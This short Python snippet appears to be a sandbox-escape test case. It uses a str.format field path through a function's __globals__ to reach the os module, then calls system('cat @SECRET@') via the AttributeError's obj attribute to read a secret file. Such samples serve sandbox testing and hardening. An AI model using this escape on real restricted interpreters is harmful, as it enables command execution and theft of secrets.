# The same through str.format: the failing object is a function's globals, named in a constant.
# effect: run
import random
def mine():
    pass
try:
    "{0.choice.__func__.__globals__[_os].missing}".format(random.Random())
except AttributeError as error:
    error.obj.system("cat @SECRET@")
